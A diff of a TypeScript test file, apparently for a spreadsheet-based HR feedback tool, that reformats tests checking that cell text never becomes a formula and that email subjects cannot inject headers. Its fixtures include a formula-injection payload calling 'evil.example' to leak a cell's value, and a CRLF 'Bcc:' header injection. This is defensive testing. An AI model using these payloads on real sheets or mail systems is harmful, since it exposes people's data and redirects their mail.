@@ -43,7 +43,8 @@ function issuesOf(h: Harness): (Issue & {text: string})[] {
 /** 1-based row of a person's row in a sheet (NIP in column 2, Kode in column 5 for tabs). */
 function rowOf(rows: Row[], nip: string, kode?: string): number {
   const i = rows.findIndex(
-    r => (r[1] === nip || r[0] === nip) && (kode === undefined || r[4] === kode),
+    r =>
+      (r[1] === nip || r[0] === nip) && (kode === undefined || r[4] === kode),
   );
   if (i < 0) throw new Error(`no row ${nip} ${kode ?? ''}`);
   return i + 1;
@@ -67,7 +68,7 @@ describe('no text becomes a formula', () => {
     expect(pegawai.getRange(r, 2).getValue()).toBe(EVIL_NAME);
     // Indicator texts too (Indikator column D, Satuan column E).
     const indikator = sheet(h.emulator, 'Indikator');
-    indikator.getRange(2, 4).setValue("'=IMAGE(\"http://evil.example/?\"&B2)");
+    indikator.getRange(2, 4).setValue('\'=IMAGE("http://evil.example/?"&B2)');
     indikator.getRange(2, 5).setValue("'+dokumen");
     // A new tab (the fixture's is plain text throughout): only what the writer formats is text.
     const ss = h.ctx.SpreadsheetApp.getActiveSpreadsheet();
@@ -138,9 +139,7 @@ describe('email headers', () => {
     expect(fs.readdirSync(h.outbox)).toEqual([]);
     // Fixed: the same job goes on and sends.
     setSetting(h.emulator, 'Email HR', 'hr@example.go.id');
-    expect(run(h, () => h.ctx.apiStartSend(PERIODE, false)).state).toBe(
-      'done',
-    );
+    expect(run(h, () => h.ctx.apiStartSend(PERIODE, false)).state).toBe('done');
     expect(outboxMails(h.outbox).length).toBeGreaterThan(0);
   });
 
@@ -153,9 +152,7 @@ describe('email headers', () => {
     template
       .getRange(subjek, 2)
       .setValue('Umpan balik {{Periode}}\r\nBcc: evil@x.example');
-    expect(run(h, () => h.ctx.apiStartSend(PERIODE, false)).state).toBe(
-      'done',
-    );
+    expect(run(h, () => h.ctx.apiStartSend(PERIODE, false)).state).toBe('done');
     const mails = outboxMails(h.outbox);
     expect(mails.length).toBeGreaterThan(0);
     for (const mail of mails) {
@@ -269,7 +266,10 @@ describe('every bad input gets a message naming its cell', () => {
     const r = rowOf(pegawai.getDataRange().getValues(), nipOf(2));
     pegawai.getRange(r, 2).setValue('');
     const found = issuesOf(h).find(x => x.text.startsWith(`Pegawai!B${r}:`));
-    expect(found).toMatchObject({level: 'Galat', text: `Pegawai!B${r}: Nama kosong`});
+    expect(found).toMatchObject({
+      level: 'Galat',
+      text: `Pegawai!B${r}: Nama kosong`,
+    });
   });
 
   it('a NIP stored as a number keeps its row out of Hasil', () => {
